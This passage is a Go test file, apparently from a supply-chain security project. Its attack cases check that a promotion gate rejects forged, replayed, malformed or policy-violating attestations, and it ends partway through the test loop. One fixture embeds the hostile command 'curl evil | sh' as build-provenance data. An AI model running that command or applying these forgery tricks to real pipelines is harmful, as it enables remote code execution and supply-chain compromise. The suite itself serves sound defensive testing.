package attacksuite

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-containerregistry/pkg/name"
	"github.com/google/go-containerregistry/pkg/v1/random"
	"github.com/google/go-containerregistry/pkg/v1/remote"
	"github.com/secure-systems-lab/go-securesystemslib/dsse"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/timestamppb"

	"github.com/custody-dev/custody/pkg/attestation"
	"github.com/custody-dev/custody/pkg/blob"
	"github.com/custody-dev/custody/pkg/events"
	"github.com/custody-dev/custody/pkg/events/eventstest"
	"github.com/custody-dev/custody/pkg/oci"
	"github.com/custody-dev/custody/pkg/oci/ocitest"
	"github.com/custody-dev/custody/pkg/policy"
	"github.com/custody-dev/custody/pkg/secrets"
	"github.com/custody-dev/custody/pkg/signing"
	"github.com/custody-dev/custody/pkg/verify"
	"github.com/custody-dev/custody/pkg/vuln"
	eventsv1 "github.com/custody-dev/custody/proto/custody/events/v1"
	"github.com/custody-dev/custody/services/gate"
	"github.com/custody-dev/custody/services/promoter"
)

const (
	sourceRepo = "https://git.example.com/org/app"
	builderID  = "urn:custody:builder:dev"
	// maxEnvelope is the gate's envelope bound here, small so the oversized case is cheap.
	maxEnvelope = 256 << 10
)

// evidence is the attacker-controlled listing the gate reads.
type evidence struct {
	mu sync.Mutex
	m  map[string][]gate.Envelope
}

func (e *evidence) Envelopes(_ context.Context, digest string) ([]gate.Envelope, error) {
	e.mu.Lock()
	defer e.mu.Unlock()
	return append([]gate.Envelope(nil), e.m[digest]...), nil
}

func (e *evidence) set(digest string, envs []gate.Envelope) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.m[digest] = envs
}

type keys struct {
	attestor, second, stranger, gate, expired, future *signing.Signer
}

type suite struct {
	t        *testing.T
	bus      *events.Bus
	blobs    *blob.Store
	host     string
	other    string // a second registry, for promotions across registries
	ev       *evidence
	k        keys
	mu       sync.Mutex
	decided  map[string]*eventsv1.PromotionDecided
	outcomes map[string]string // request id → "completed" or the failure
}

func newKey(t *testing.T) *signing.Signer {
	t.Helper()
	priv, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	s, err := signing.NewSigner(priv)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func trusted(t *testing.T, s *signing.Signer, notBefore, notAfter time.Time) verify.TrustedKey {
	t.Helper()
	k, err := verify.ParseTrustedKeyPEM(s.KeyID()[:8], s.PublicKeyPEM())
	if err != nil {
		t.Fatal(err)
	}
	k.NotBefore, k.NotAfter = notBefore, notAfter
	return k
}

// policies: prod needs provenance (dev builder, our source repository, only the
// "source" external parameter), a CycloneDX SBOM without AGPL, a fresh vulnerability
// scan without critical findings and a secrets scan without findings; prod2 needs
// provenance from two distinct builder keys; celerr has a condition that fails at
// evaluation.
func (s *suite) policies(t *testing.T) *policy.Set {
	t.Helper()
	ids := func(ss ...*signing.Signer) string {
		var out []string
		for _, x := range ss {
			out = append(out, `"`+x.KeyID()+`"`)
		}
		return "[" + strings.Join(out, ", ") + "]"
	}
	prod := fmt.Sprintf(`apiVersion: custody.dev/v1
kind: PromotionPolicy
metadata: {name: prod}
spec:
  destinations: ["%[1]s/prod/*"]
  authorities:
    - {name: builders, keyIds: %[2]s}
  requirements:
    - name: provenance
      predicateType: https://slsa.dev/provenance/v1
      condition: >-
        predicate.runDetails.builder.id == "%[3]s" &&
        predicate.buildDefinition.externalParameters.source.repository == "%[4]s" &&
        predicate.buildDefinition.externalParameters.all(k, k in ["source"])
    - name: sbom
      predicateType: https://cyclonedx.org/bom
      condition: '!licenses.exists(l, l in ["AGPL-3.0-only", "AGPL-3.0-or-later"])'
    - name: vulns
      predicateType: https://in-toto.io/attestation/vulns/v0.2
      maxAge: 24h
      condition: '!vulns.exists(v, v.severity == "critical")'
    - name: secrets
      predicateType: https://custody.dev/attestations/secrets/v1
      condition: 'size(secrets) == 0'
  waivers:
    - id: CVE-2099-0002
      owner: alice@example.com
      expires: "%[5]s"
      reason: expired on purpose
`, s.host, ids(s.k.attestor, s.k.expired, s.k.future), builderID, sourceRepo, time.Now().Add(-time.Hour).UTC().Format(time.RFC3339))
	prod2 := fmt.Sprintf(`apiVersion: custody.dev/v1
kind: PromotionPolicy
metadata: {name: prod2}
spec:
  destinations: ["%[1]s/prod2/*"]
  authorities:
    - {name: builders, keyIds: %[2]s}
  requirements:
    - name: provenance
      predicateType: https://slsa.dev/provenance/v1
      threshold: 2
      condition: 'predicate.runDetails.builder.id == "%[3]s"'
`, s.host, ids(s.k.attestor, s.k.second), builderID)
	celerr := fmt.Sprintf(`apiVersion: custody.dev/v1
kind: PromotionPolicy
metadata: {name: celerr}
spec:
  destinations: ["%[1]s/celerr/*"]
  requirements:
    - name: provenance
      predicateType: https://slsa.dev/provenance/v1
      condition: 'size(predicate.runDetails.builder.id) / (size(predicate.runDetails.builder.id) - size(predicate.runDetails.builder.id)) == 1'
`, s.host)
	cross := strings.Replace(strings.Replace(prod, "name: prod}", "name: cross}", 1), s.host+"/prod/*", s.other+"/prod/*", 1)
	var ps []*policy.Policy
	for _, doc := range []string{prod, prod2, celerr, cross} {
		p, err := policy.Parse([]byte(doc))
		if err != nil {
			t.Fatalf("policy: %v\n%s", err, doc)
		}
		ps = append(ps, p)
	}
	set, err := policy.NewSet(ps...)
	if err != nil {
		t.Fatal(err)
	}
	return set
}

func newSuite(t *testing.T) *suite {
	t.Helper()
	ctx := context.Background()
	env := eventstest.New(t)
	s := &suite{
		t: t, bus: env.Bus(t), host: ocitest.New(t), other: ocitest.New(t), ev: &evidence{m: map[string][]gate.Envelope{}},
		decided: map[string]*eventsv1.PromotionDecided{}, outcomes: map[string]string{},
	}
	var err error
	if s.blobs, err = blob.Open(ctx, env.JS, env.Bucket, blob.WithMemoryStorage()); err != nil {
		t.Fatal(err)
	}
	s.k = keys{newKey(t), newKey(t), newKey(t), newKey(t), newKey(t), newKey(t)}
	now := time.Now()
	verifier, err := verify.NewVerifier([]verify.TrustedKey{
		trusted(t, s.k.attestor, time.Time{}, time.Time{}),
		trusted(t, s.k.second, time.Time{}, time.Time{}),
		trusted(t, s.k.expired, now.Add(-48*time.Hour), now.Add(-24*time.Hour)),
		trusted(t, s.k.future, now.Add(24*time.Hour), time.Time{}),
	}, verify.WithMaxEnvelopeSize(maxEnvelope))
	if err != nil {
		t.Fatal(err)
	}
	decisions, err := verify.NewVerifier([]verify.TrustedKey{trusted(t, s.k.gate, time.Time{}, time.Time{})})
	if err != nil {
		t.Fatal(err)
	}
	set := s.policies(t)
	g, err := gate.New(s.bus, s.blobs, s.ev, verifier, set, s.k.gate,
		gate.WithEvidenceWait(300*time.Millisecond), gate.WithPollInterval(50*time.Millisecond), gate.WithRegistry())
	if err != nil {
		t.Fatal(err)
	}
	p, err := promoter.New(s.bus, s.blobs, verifier, decisions, promoter.WithPolicies(set), promoter.WithConcurrency(4),
		promoter.WithRetryBackoff(50*time.Millisecond))
	if err != nil {
		t.Fatal(err)
	}
	for _, svc := range []interface {
		Start(context.Context) error
		Shutdown(context.Context) error
	}{g, p} {
		if err := svc.Start(ctx); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = svc.Shutdown(context.Background()) })
	}
	cons, err := s.bus.Consume(ctx, events.ConsumerSpec{Name: "attack-watch", Type: "custody.promotion.>", Concurrency: 4},
		func(_ context.Context, msg *events.Message) error {
			s.mu.Lock()
			defer s.mu.Unlock()
			switch msg.Type {
			case events.TypePromotionDecided:
				var d eventsv1.PromotionDecided
				if err := msg.Decode(&d); err == nil {
					s.decided[d.GetRequestId()] = &d
				}
			case events.TypePromotionCompleted:
				var c eventsv1.PromotionCompleted
				if err := msg.Decode(&c); err == nil {
					s.outcomes[c.GetRequestId()] = "completed"
				}
			case events.TypePromotionFailed:
				var f eventsv1.PromotionFailed
				if err := msg.Decode(&f); err == nil {
					s.outcomes[f.GetRequestId()] = "failed: " + f.GetError()
				}
			}
			return nil
		})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cons.Shutdown(context.Background()) })
	return s
}

// img is one staging image and the statements about it.
type img struct {
	ref    name.Digest
	digest string
}

func (s *suite) push(t *testing.T, repo string) img {
	t.Helper()
	d := ocitest.PushRandomImage(t, s.host+"/"+repo)
	return img{ref: d, digest: d.DigestStr()}
}

// must returns b, or panics (failing the test) on a fixture that could not be built.
func must(b []byte, err error) []byte {
	if err != nil {
		panic(fmt.Sprintf("attack fixture: %v", err))
	}
	return b
}

func provenance(t *testing.T, i img, edit func(*eventsv1.BuildCompleted)) []byte {
	t.Helper()
	b := &eventsv1.BuildCompleted{Image: i.ref.String(), Digest: i.digest, BuilderId: builderID,
		SourceRepository: sourceRepo, Commit: strings.Repeat("a", 40)}
	if edit != nil {
		edit(b)
	}
	return must(attestation.Provenance(b))
}

func sbom(t *testing.T, i img, license string) []byte {
	t.Helper()
	bom := fmt.Sprintf(`{"bomFormat":"CycloneDX","specVersion":"1.6","components":[{"type":"library","name":"x","version":"1","licenses":[{"license":{"id":%q}}]}]}`, license)
	return must(attestation.SBOM(i.ref.String(), i.digest, []byte(bom)))
}

func vulns(t *testing.T, i img, at time.Time, findings ...vuln.Finding) []byte {
	t.Helper()
	pred := must(vuln.NewPredicate(&vuln.Report{Packages: 1, Findings: findings}, vuln.ScanInfo{
		ScannerURI: "https://custody.dev/scanner", ScannerVersion: "test", DBLastUpdate: at.Add(-time.Hour),
		StartedOn: at.Add(-time.Second), FinishedOn: at,
	}))
	return must(attestation.ScanResult(i.ref.String(), i.digest, vuln.PredicateType, pred))
}

func secretsScan(t *testing.T, i img, findings ...secrets.Finding) []byte {
	t.Helper()
	pred := must(secrets.Predicate(secrets.Report{Findings: findings}, secrets.PredicateMeta{ScannerURI: "https://custody.dev/scanner", ScannerVersion: "test"}))
	return must(attestation.ScanResult(i.ref.String(), i.digest, secrets.PredicateType, pred))
}

// put stores an envelope and returns the listing entry, recorded at `at`.
func (s *suite) put(t *testing.T, env []byte, at time.Time) gate.Envelope {
	t.Helper()
	ref, err := s.blobs.Put(context.Background(), attestation.MediaTypeDSSE, env)
	if err != nil {
		t.Fatal(err)
	}
	return gate.Envelope{Digest: ref.Digest, RecordedAt: at}
}

func sign(t *testing.T, k *signing.Signer, stmt []byte) []byte {
	t.Helper()
	return must(k.Sign(context.Background(), signing.PayloadTypeInToto, stmt))
}

// rawEnvelope builds a DSSE envelope by hand: payloadType, payload, and signatures over
// the PAE of (sigType, sigPayload) by each key.
func rawEnvelope(t *testing.T, payloadType string, payload []byte, sigType string, sigPayload []byte, ks ...*signing.Signer) []byte {
	t.Helper()
	env := dsse.Envelope{PayloadType: payloadType, Payload: base64.StdEncoding.EncodeToString(payload)}
	for _, k := range ks {
		signed := must(k.Sign(context.Background(), sigType, sigPayload))
		var e dsse.Envelope
		if err := json.Unmarshal(signed, &e); err != nil {
			t.Fatal(err)
		}
		env.Signatures = append(env.Signatures, e.Signatures...)
	}
	return must(json.Marshal(env))
}

// good is the genuine evidence for i, recorded now, in the order provenance, SBOM,
// vulns, secrets.
func (s *suite) good(t *testing.T, i img) []gate.Envelope {
	t.Helper()
	now := time.Now()
	return []gate.Envelope{
		s.put(t, sign(t, s.k.attestor, provenance(t, i, nil)), now),
		s.put(t, sign(t, s.k.attestor, sbom(t, i, "MIT")), now),
		s.put(t, sign(t, s.k.attestor, vulns(t, i, now)), now),
		s.put(t, sign(t, s.k.attestor, secretsScan(t, i)), now),
	}
}

func (s *suite) request(t *testing.T, id string, i img, dest string) {
	t.Helper()
	s.publish(t, events.TypePromotionRequested, i.digest, &eventsv1.PromotionRequested{
		RequestId: id, Image: i.ref.String(), Digest: i.digest, Destination: dest, RequestedBy: "attack-suite"})
}

func (s *suite) publish(t *testing.T, typ, subject string, m proto.Message) {
	t.Helper()
	if _, err := s.bus.Publish(context.Background(), events.Event{Type: typ, Subject: subject, Data: m}); err != nil {
		t.Fatal(err)
	}
}

// decision waits for the gate's decision of request id.
func (s *suite) decision(t *testing.T, id string) *eventsv1.PromotionDecided {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for time.Now().Before(deadline) {
		s.mu.Lock()
		d := s.decided[id]
		s.mu.Unlock()
		if d != nil {
			return d
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Fatalf("request %s: no decision within 30s", id)
	return nil
}

// outcome waits for the promoter's outcome of request id.
func (s *suite) outcome(t *testing.T, id string) string {
	t.Helper()
	deadline := time.Now().Add(60 * time.Second)
	for time.Now().Before(deadline) {
		s.mu.Lock()
		o := s.outcomes[id]
		s.mu.Unlock()
		if o != "" {
			return o
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Fatalf("request %s: no promotion outcome within 60s", id)
	return ""
}

// untouched fails unless the destination repository holds nothing at all.
func (s *suite) untouched(t *testing.T, repo string, i img) {
	t.Helper()
	r, err := name.NewRepository(s.host + "/" + repo)
	if err != nil {
		t.Fatal(err)
	}
	if tags, err := remote.List(r); err == nil && len(tags) > 0 {
		t.Errorf("destination %s has tags %v", r, tags)
	}
	if _, err := remote.Head(r.Digest(i.digest)); err == nil {
		t.Errorf("destination %s holds the image %s", r, i.digest)
	}
}

type attack struct {
	name string
	// repo is the destination repository under the registry (default prod/<case>).
	repo string
	// evidence returns what the attacker lists for the image (default: s.good).
	evidence func(t *testing.T, s *suite, i img) []gate.Envelope
	// request overrides the request (default: image i to repo:v1).
	request func(t *testing.T, s *suite, id string, i img, dest string)
	// want must appear in the decision's reasons and requirement codes (or the
	// promoter's failure, for forged decisions).
	want []string
	// forged cases never reach the gate: they publish a decision themselves.
	forged func(t *testing.T, s *suite, id string, i img, dest string)
}

// replace returns good evidence with the n-th envelope replaced by env (or dropped when
// env is nil).
func replace(t *testing.T, s *suite, i img, n int, env []byte, at time.Time) []gate.Envelope {
	t.Helper()
	envs := s.good(t, i)
	if env == nil {
		return append(envs[:n], envs[n+1:]...)
	}
	envs[n] = s.put(t, env, at)
	return envs
}

func attacks() []attack {
	now := time.Now
	return []attack{
		{name: "signature over another payload", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			// A genuine signature over a good statement, with the payload swapped for another.
			good := provenance(t, i, nil)
			bad := provenance(t, i, func(b *eventsv1.BuildCompleted) { b.BuilderId = "urn:evil" })
			return replace(t, s, i, 0, rawEnvelope(t, verify.PayloadTypeInToto, bad, verify.PayloadTypeInToto, good, s.k.attestor), now())
		}, want: []string{"no valid signature from a trusted key", policy.CodeMissing}},
		{name: "payloadType confusion", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			st := provenance(t, i, nil)
			return replace(t, s, i, 0, rawEnvelope(t, "application/json", st, "application/json", st, s.k.attestor), now())
		}, want: []string{"wrong payload type"}},
		{name: "payloadType differing in case", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			st := provenance(t, i, nil)
			ty := "application/vnd.in-toto+JSON"
			return replace(t, s, i, 0, rawEnvelope(t, ty, st, ty, st, s.k.attestor), now())
		}, want: []string{"wrong payload type"}},
		{name: "subject digest mismatch", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			other := img{ref: i.ref.Context().Digest("sha256:" + strings.Repeat("0", 64)), digest: "sha256:" + strings.Repeat("0", 64)}
			return replace(t, s, i, 1, sign(t, s.k.attestor, sbom(t, other, "MIT")), now())
		}, want: []string{"does not name the artifact", "sbom"}},
		{name: "attestation replayed from another image", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			other := s.push(t, "staging/other")
			return replace(t, s, i, 0, sign(t, s.k.attestor, provenance(t, other, nil)), now())
		}, want: []string{"does not name the artifact", "provenance"}},
		{name: "required type missing while others exist", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			return replace(t, s, i, 1, nil, now())
		}, want: []string{"sbom", policy.CodeMissing}},
		{name: "CycloneDX type with provenance content", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			st := provenance(t, i, nil)
			st = []byte(strings.Replace(string(st), attestation.PredicateSLSAProvenanceV1, attestation.PredicateCycloneDX, 1))
			return replace(t, s, i, 1, sign(t, s.k.attestor, st), now())
		}, want: []string{policy.CodeContentMismatch}},
		{name: "provenance type with SBOM content", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			st := sbom(t, i, "MIT")
			st = []byte(strings.Replace(string(st), attestation.PredicateCycloneDX, attestation.PredicateSLSAProvenanceV1, 1))
			return replace(t, s, i, 0, sign(t, s.k.attestor, st), now())
		}, want: []string{policy.CodeContentMismatch}},
		{name: "untrusted builder", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			return replace(t, s, i, 0, sign(t, s.k.attestor, provenance(t, i, func(b *eventsv1.BuildCompleted) { b.BuilderId = "urn:evil:builder" })), now())
		}, want: []string{"provenance", policy.CodeConditionFalse}},
		{name: "forked source repository", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			return replace(t, s, i, 0, sign(t, s.k.attestor, provenance(t, i, func(b *eventsv1.BuildCompleted) { b.SourceRepository = "https://git.example.com/fork/app" })), now())
		}, want: []string{"provenance", policy.CodeConditionFalse}},
		{name: "external parameter outside the allow-list", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			st := provenance(t, i, nil)
			st = []byte(strings.Replace(string(st), `"externalParameters":{`, `"externalParameters":{"script":"curl evil | sh",`, 1))
			return replace(t, s, i, 0, sign(t, s.k.attestor, st), now())
		}, want: []string{"provenance", policy.CodeConditionFalse}},
		{name: "expired key", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			return replace(t, s, i, 0, sign(t, s.k.expired, provenance(t, i, nil)), now())
		}, want: []string{"no valid signature from a trusted key", "key validity windows checked at"}},
		{name: "not-yet-valid key", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			return replace(t, s, i, 0, sign(t, s.k.future, provenance(t, i, nil)), now())
		}, want: []string{"no valid signature from a trusted key"}},
		{name: "expired key with a backdated recorded time it cannot reach", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			// Even a listing claiming the envelope was recorded inside the window needs the
			// statement's claimed times to agree; here the window is 24-48h ago and the
			// vulnerability scan it signs is from now, so it is from the future of its record.
			return replace(t, s, i, 2, sign(t, s.k.expired, vulns(t, i, now())), now().Add(-36*time.Hour))
		}, want: []string{"vulns", policy.CodeFutureTimestamp}},
		{name: "removed key", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			return replace(t, s, i, 0, sign(t, s.k.stranger, provenance(t, i, nil)), now())
		}, want: []string{"no valid signature from a trusted key"}},
		{name: "one key counted twice for a threshold (two signatures)", repo: "prod2/twice-sig", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			st := provenance(t, i, nil)
			return []gate.Envelope{s.put(t, rawEnvelope(t, verify.PayloadTypeInToto, st, verify.PayloadTypeInToto, st, s.k.attestor, s.k.attestor), now())}
		}, want: []string{policy.CodeThresholdUnmet}},
		{name: "one key counted twice for a threshold (two envelopes)", repo: "prod2/twice-env", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			return []gate.Envelope{
				s.put(t, sign(t, s.k.attestor, provenance(t, i, nil)), now()),
				s.put(t, sign(t, s.k.attestor, provenance(t, i, func(b *eventsv1.BuildCompleted) { b.InvocationId = "second" })), now()),
			}
		}, want: []string{policy.CodeThresholdUnmet}},
		{name: "second signature by a key outside the authority", repo: "prod2/stranger", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			st := provenance(t, i, nil)
			return []gate.Envelope{s.put(t, rawEnvelope(t, verify.PayloadTypeInToto, st, verify.PayloadTypeInToto, st, s.k.attestor, s.k.stranger), now())}
		}, want: []string{policy.CodeThresholdUnmet}},
		{name: "malformed JSON envelope", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			return replace(t, s, i, 0, []byte(`{"payloadType":"application/vnd.in-toto+json","payload":`), now())
		}, want: []string{"malformed envelope"}},
		{name: "duplicate keys in the envelope", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			good := sign(t, s.k.attestor, provenance(t, i, nil))
			evil := base64.StdEncoding.EncodeToString(provenance(t, i, func(b *eventsv1.BuildCompleted) { b.BuilderId = "urn:evil" }))
			dup := strings.Replace(string(good), `"payload":`, `"payload":"`+evil+`","payload":`, 1)
			return replace(t, s, i, 0, []byte(dup), now())
		}, want: []string{"twice"}},
		{name: "duplicate keys in the statement", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			st := string(provenance(t, i, nil))
			st = strings.Replace(st, `"predicateType":`, `"predicateType":"https://cyclonedx.org/bom","predicateType":`, 1)
			return replace(t, s, i, 0, sign(t, s.k.attestor, []byte(st)), now())
		}, want: []string{"twice"}},
		{name: "invalid UTF-8 in the statement", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			st := strings.Replace(string(provenance(t, i, nil)), builderID, builderID+"\xff", 1)
			return replace(t, s, i, 0, sign(t, s.k.attestor, []byte(st)), now())
		}, want: []string{"UTF-8"}},
		{name: "seventeen signatures", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			st := provenance(t, i, nil)
			ks := make([]*signing.Signer, 17)
			for n := range ks {
				ks[n] = s.k.attestor
			}
			return replace(t, s, i, 0, rawEnvelope(t, verify.PayloadTypeInToto, st, verify.PayloadTypeInToto, st, ks...), now())
		}, want: []string{"signatures"}},
		{name: "envelope without signatures", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			return replace(t, s, i, 0, rawEnvelope(t, verify.PayloadTypeInToto, provenance(t, i, nil), "", nil), now())
		}, want: []string{"no signatures"}},
		{name: "timestamps in the future", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			st := provenance(t, i, func(b *eventsv1.BuildCompleted) {
				b.StartedAt = timestamp(now().Add(365 * 24 * time.Hour))
				b.FinishedAt = timestamp(now().Add(366 * 24 * time.Hour))
			})
			return replace(t, s, i, 0, sign(t, s.k.attestor, st), now())
		}, want: []string{policy.CodeFutureTimestamp}},
		{name: "stale vulnerability scan", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			old := now().Add(-72 * time.Hour)
			return replace(t, s, i, 2, sign(t, s.k.attestor, vulns(t, i, old)), old)
		}, want: []string{"vulns", policy.CodeTooOld}},
		{name: "critical vulnerability", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			f := vuln.Finding{ID: "CVE-2099-0001", Severity: vuln.Score{Rating: "critical"}, PURL: "pkg:deb/debian/zlib@1", Ecosystem: "Debian:12", Name: "zlib", Version: "1", Status: vuln.StatusAffected}
			return replace(t, s, i, 2, sign(t, s.k.attestor, vulns(t, i, now(), f)), now())
		}, want: []string{"vulns", policy.CodeConditionFalse}},
		{name: "expired waiver is not honoured", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			f := vuln.Finding{ID: "CVE-2099-0002", Severity: vuln.Score{Rating: "critical"}, PURL: "pkg:deb/debian/zlib@1", Ecosystem: "Debian:12", Name: "zlib", Version: "1", Status: vuln.StatusAffected}
			return replace(t, s, i, 2, sign(t, s.k.attestor, vulns(t, i, now(), f)), now())
		}, want: []string{"vulns", policy.CodeConditionFalse}},
		{name: "secret found", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			f := secrets.Finding{RuleID: "private-key", Title: "Private key (PEM)", Severity: secrets.SeverityCritical, Path: "etc/key.pem",
				Layer: "sha256:" + strings.Repeat("1", 64), Line: 1, Fingerprint: strings.Repeat("ab", 16)}
			return replace(t, s, i, 3, sign(t, s.k.attestor, secretsScan(t, i, f)), now())
		}, want: []string{"secrets", policy.CodeConditionFalse}},
		{name: "AGPL licence", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			return replace(t, s, i, 1, sign(t, s.k.attestor, sbom(t, i, "AGPL-3.0-only")), now())
		}, want: []string{"sbom", policy.CodeConditionFalse}},
		{name: "CEL error at evaluation", repo: "celerr/app", want: []string{policy.CodeConditionError}},
		{name: "oversized envelope", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			big := fmt.Sprintf(`{"bomFormat":"CycloneDX","specVersion":"1.6","metadata":{"x":%q}}`, strings.Repeat("a", maxEnvelope))
			return replace(t, s, i, 1, sign(t, s.k.attestor, must(attestation.SBOM(i.ref.String(), i.digest, []byte(big)))), now())
		}, want: []string{"exceeds"}},
		{name: "envelope missing from the blob store", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			envs := s.good(t, i)
			envs[0] = gate.Envelope{Digest: "sha256:" + strings.Repeat("e", 64), RecordedAt: now()}
			return envs
		}, want: []string{"unavailable", "provenance"}},
		{name: "listing without a recorded time", evidence: func(t *testing.T, s *suite, i img) []gate.Envelope {
			envs := s.good(t, i)
			envs[0].RecordedAt = time.Time{}
			return envs
		}, want: []string{"no recorded time"}},
		{name: "image digest differs from the request digest", request: func(t *testing.T, s *suite, id string, i img, dest string) {
			other := s.push(t, "staging/other")
			s.publish(t, events.TypePromotionRequested, i.digest, &eventsv1.PromotionRequested{
				RequestId: id, Image: other.ref.String(), Digest: i.digest, Destination: dest})
		}, want: []string{"is not pinned by digest"}},
		{name: "destination no policy governs", repo: "elsewhere/app", want: []string{"no policy governs the destination"}},
		{name: "forged decision published on the bus without a VSA", forged: func(t *testing.T, s *suite, id string, i img, dest string) {
			envs := s.good(t, i)
			s.ev.set(i.digest, envs)
			s.publish(t, events.TypePromotionDecided, i.digest, &eventsv1.PromotionDecided{
				RequestId: id, Image: i.ref.String(), Digest: i.digest, Destination: dest, Decision: eventsv1.Decision_DECISION_ALLOWED,
				PolicyName: "prod", AttestationDigests: digests(envs)})
		}, want: []string{"carries no signed VSA"}},
		{name: "forged decision with a VSA signed by the attestor key", forged: func(t *testing.T, s *suite, id string, i img, dest string) {
			s.forge(t, id, i, dest, s.k.attestor, dest, true)
		}, want: []string{"not signed by a trusted decision key"}},
		{name: "genuine-looking VSA replayed for another destination", forged: func(t *testing.T, s *suite, id string, i img, dest string) {
			s.forge(t, id, i, dest, s.k.gate, s.host+"/prod/other:v1", true)
		}, want: []string{"allows destination"}},
		{name: "FAILED VSA with the event flipped to allowed", forged: func(t *testing.T, s *suite, id string, i img, dest string) {
			s.forge(t, id, i, dest, s.k.gate, dest, false)
		}, want: []string{"records a FAILED verification"}},
	}
}

func timestamp(t time.Time) *timestamppb.Timestamp { return timestamppb.New(t) }

func digests(envs []gate.Envelope) []string {
	out := make([]string, len(envs))
	for n, e := range envs {
		out[n] = e.Digest
	}
	return out
}

// forge publishes an allowed decision for i whose VSA k signed, naming vsaDest.
func (s *suite) forge(t *testing.T, id string, i img, dest string, k *signing.Signer, vsaDest string, passed bool) {
	t.Helper()
	envs := s.good(t, i)
	s.ev.set(i.digest, envs)
	pol, err := s.policies(t).For(s.host + "/prod/x")
	if err != nil {
		t.Fatal(err)
	}
	in := attestation.VSAInput{
		VerifierID: gate.VerifierID, Image: i.ref.String(), Digest: i.digest, TimeVerified: time.Now(),
		PolicyURI: "urn:custody:policy:prod", PolicyDigest: pol.Digest(), Passed: passed,
		Decision: attestation.VSADecision{RequestID: id, Destination: vsaDest, PolicyName: "prod", Reasons: []string{"forged"}},
	}
	if passed {
		in.InputAttestations = digests(envs)
		in.Decision.RecordedAt = map[string]time.Time{}
		for _, e := range envs {
			in.Decision.RecordedAt[e.Digest] = e.RecordedAt
		}
	}
	env := sign(t, k, must(attestation.VSA(in)))
	ref, err := s.blobs.Put(context.Background(), attestation.MediaTypeDSSE, env)
	if err != nil {
		t.Fatal(err)
	}
	s.publish(t, events.TypePromotionDecided, i.digest, &eventsv1.PromotionDecided{
		RequestId: id, Image: i.ref.String(), Digest: i.digest, Destination: dest, Decision: eventsv1.Decision_DECISION_ALLOWED,
		PolicyName: "prod", PolicyDigest: pol.Digest(), AttestationDigests: digests(envs),
		Vsa: &eventsv1.BlobRef{Digest: ref.Digest, MediaType: ref.MediaType, Size: ref.Size}})
}

func TestAttackSuite(t *testing.T) {
	s := newSuite(t)
	cases := attacks()
	if len(cases) < 30 {
		t.Fatalf("%d attack cases; the suite must name at least 30", len(cases))
	}
	for n, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			id := fmt.Sprintf("attack-%02d", n)
			i := s.push(t, fmt.Sprintf("staging/case%02d", n))
			repo := c.repo
			if repo == "" {
				repo = fmt.Sprintf("prod/case%02d", n)
			}
			dest := s.host + "/" + repo + ":v1"
			if c.forged != nil {
				c.forged(t, s, id, i, dest)
				got := s.outcome(t, id)
				if !strings.HasPrefix(got, "failed: ") {
					t.Fatalf("forged decision: %s", got)
				}
				for _, w := range c.want {
					if !strings.Contains(got, w) {
						t.Errorf("failure %q does not mention %q", got, w)
					}
				}
				s.untouched(t, repo, i)
				return
			}
			evidence := s.good
			if c.evidence != nil {
				evidence = func(t *testing.T, i img) []gate.Envelope { return c.evidence(t, s, i) }
			}
			s.ev.set(i.digest, evidence(t, i))
			if c.request != nil {
				c.request(t, s, id, i, dest)
			} else {
				s.request(t, id, i, dest)
			}
			d := s.decision(t, id)
			if d.GetDecision() == eventsv1.Decision_DECISION_ALLOWED {
				t.Fatalf("ALLOWED: %q", d.GetReasons())
			}
			text := strings.Join(d.GetReasons(), "\n")
			for _, r := range d.GetRequirements() {
				text += "\n" + r.GetName() + " " + r.GetCode() + " " + r.GetReason()
			}
			for _, w := range c.want {
				if !strings.Contains(text, w) {
					t.Errorf("decision does not mention %q:\n%s", w, text)
				}
			}
			if len(d.GetAttestationDigests()) != 0 {
				t.Errorf("a denial lists attestations %v", d.GetAttestationDigests())
			}
